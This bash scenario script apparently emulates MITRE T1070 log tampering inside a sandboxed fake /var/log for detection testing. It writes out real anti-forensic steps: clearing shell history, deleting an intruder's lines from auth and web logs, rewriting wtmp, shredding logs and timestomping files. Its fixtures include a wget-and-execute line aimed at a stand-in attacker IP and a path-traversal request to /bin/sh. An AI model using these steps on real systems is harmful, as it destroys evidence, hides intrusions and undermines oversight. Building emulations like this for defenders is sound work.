#!/usr/bin/env bash
# Family: log_tampering — defence evasion by destroying the evidence (MITRE T1070.002 clear
# Linux logs, T1070.003 clear command history, T1070.006 timestomp): delete the attacker's lines
# from auth/web logs, truncate or shred whole logs, rewrite wtmp without the attacker's login,
# forge timestamps with `touch -r`/`touch -d`, disable and clear shell history.
#
# Everything happens in a fake /var/log ($W/root/var/log) that `setup` fills with realistic logs
# (some copied read-only from the real /var/log); the real logs are never written.
set -euo pipefail
# shellcheck source=SCRIPTDIR/../lib.sh
source "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")/../lib.sh"
scenario_init log_tampering

ATTACKER_IP=127.0.0.66   # only ever written into fake log lines, never contacted

do_setup() {
    local R="$W/root" L="$W/root/var/log" n
    rm -rf "$R"
    mkdir -p "$L/apache2" "$L/journal" "$L/apt" "$R/root"
    n=$(rand_int 300 900)
    # auth.log: sshd/sudo/cron noise with the attacker's logins mixed in; an Apache access log
    # with the attacker's requests
    awk -v n="$n" -v now="$(date +%s)" -v seed="$RANDOM" -v atk="$ATTACKER_IP" 'BEGIN {
        srand(seed)
        for (i = 0; i < n; i++) {
            ts = strftime("%b %e %H:%M:%S", now - (n - i) * 37); r = int(rand() * 12); p = 40000 + int(rand() * 20000)
            if (r == 0)      printf "%s vm sshd[%d]: Accepted publickey for root from %s port %d ssh2\n", ts, 1000 + i, atk, p
            else if (r == 1) printf "%s vm sshd[%d]: Failed password for invalid user admin from %s port %d ssh2\n", ts, 1000 + i, atk, p
            else if (r < 4)  printf "%s vm sshd[%d]: Accepted publickey for deploy from 127.0.0.20 port %d ssh2\n", ts, 1000 + i, p
            else if (r == 4) printf "%s vm sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart app\n", ts
            else             printf "%s vm CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n", ts, 2000 + i
        }
    }' >"$L/auth.log"
    awk -v n="$n" -v seed="$RANDOM" -v atk="$ATTACKER_IP" 'BEGIN {
        srand(seed + 1)
        for (i = 0; i < n; i++) {
            bad = (rand() < 0.11)
            printf "%s - - [25/Nov/2025:10:%02d:00 +0000] \"GET /%s HTTP/1.1\" 200 %d\n",
                bad ? atk : "127.0.0." int(rand() * 200 + 2), i % 60,
                bad ? "cgi-bin/.%2e/.%2e/bin/sh" : "index.html?p=" i, int(rand() * 5000)
        }
    }' >"$L/apache2/access.log"
    seq 1 "$n" | sed "s/^/$(date '+%b %e %H:%M:%S') vm kernel: [    0.000000] line /" >"$L/kern.log"
    seq 1 "$n" | sed "s/^/$(date '+%b %e %H:%M:%S') vm systemd[1]: Started session /" >"$L/syslog"
    cp "$L/syslog" "$L/messages"
    cp "$L/auth.log" "$L/auth.log.1"
    gzip -c "$L/syslog" >"$L/syslog.2.gz"
    # wtmp with the attacker's login, built from utmpdump's text format
    {
        printf '[7] [01234] [ts/0] [deploy  ] [pts/0       ] [127.0.0.20          ] [127.0.0.20     ] [2025-11-25T09:00:00,000000+00:00]\n'
        printf '[7] [04321] [ts/1] [root    ] [pts/1       ] [%-20s] [%-15s] [2025-11-25T09:30:00,000000+00:00]\n' "$ATTACKER_IP" "$ATTACKER_IP"
        printf '[8] [04321] [ts/1] [        ] [pts/1       ] [                    ] [0.0.0.0        ] [2025-11-25T09:45:00,000000+00:00]\n'
    } | utmpdump -r >"$L/wtmp" 2>/dev/null || : >"$L/wtmp"
    cp "$L/wtmp" "$L/btmp"
    # real logs, copied read-only, as reference files for timestomping
    cp /var/log/dpkg.log "$L/dpkg.log" 2>/dev/null || seq 1 100 >"$L/dpkg.log"
    cp /var/log/apt/history.log "$L/apt/history.log" 2>/dev/null || : >"$L/apt/history.log"
    touch -d '2025-11-01 04:02' "$L/dpkg.log"
    printf 'ls\nwget http://%s/x.sh\nchmod +x x.sh\n./x.sh\n' "$ATTACKER_IP" >"$R/root/.bash_history"
}

do_run() {
    local L="$W/root/var/log" R="$W/root"
    cd "$L"
    # T1070.003: stop recording history, clear it (in this shell and in a history-enabled child)
    unset HISTFILE
    export HISTSIZE=0 HISTFILESIZE=0
    set +o history
    history -c
    HISTFILE="$R/root/.bash_history" bash -c 'set -o history; history -c; history -w; unset HISTFILE'
    cat /dev/null >"$R/root/.bash_history"
    ln -sf /dev/null "$R/root/.bash_history"
    jitter 300

    # keep the original mtimes to put back afterwards (timestomp)
    touch -r auth.log "$W/.ref-auth"
    touch -r apache2/access.log "$W/.ref-access"

    # T1070.002: surgical deletion of the attacker's lines
    sed -i "/$ATTACKER_IP/d" auth.log
    sed -i '/Accepted publickey for root/d' auth.log.1
    grep -v "$ATTACKER_IP" apache2/access.log >apache2/.access.tmp || true
    cat apache2/.access.tmp >apache2/access.log
    rm -f apache2/.access.tmp
    # rewrite wtmp/btmp without the attacker's session (utmpdump | grep -v | utmpdump -r)
    utmpdump wtmp 2>/dev/null | grep -v "$ATTACKER_IP" | utmpdump -r >wtmp.new 2>/dev/null && mv -f wtmp.new wtmp || rm -f wtmp.new
    jitter 300

    # T1070.002: wholesale wiping
    truncate -s 0 syslog
    : >kern.log
    cat /dev/null >btmp
    echo >messages
    shred -u -n 1 -z syslog.2.gz
    find . -name '*.gz' -delete
    journalctl --directory="$L/journal" --rotate >/dev/null 2>&1 || true
    journalctl --directory="$L/journal" --vacuum-time=1s >/dev/null 2>&1 || true
    rm -rf "$L/journal/"*

    # T1070.006: forge timestamps so the edits don't stand out
    touch -r "$W/.ref-auth" auth.log
    touch -r "$W/.ref-access" apache2/access.log
    touch -r dpkg.log syslog kern.log messages wtmp btmp auth.log.1
    touch -d '2025-11-01 04:02:13' "$L/apt/history.log"
    touch -a -m -t 202511010402.13 apache2
    rm -f "$W/.ref-auth" "$W/.ref-access"

    # check the result, as the intruder would
    grep -c "$ATTACKER_IP" auth.log apache2/access.log || true
    ls -la --time-style=full-iso "$L" | upto 20
    last -f wtmp 2>/dev/null | head -n 5 || true
}

do_teardown() {
    default_teardown
}

scenario_main "$@"
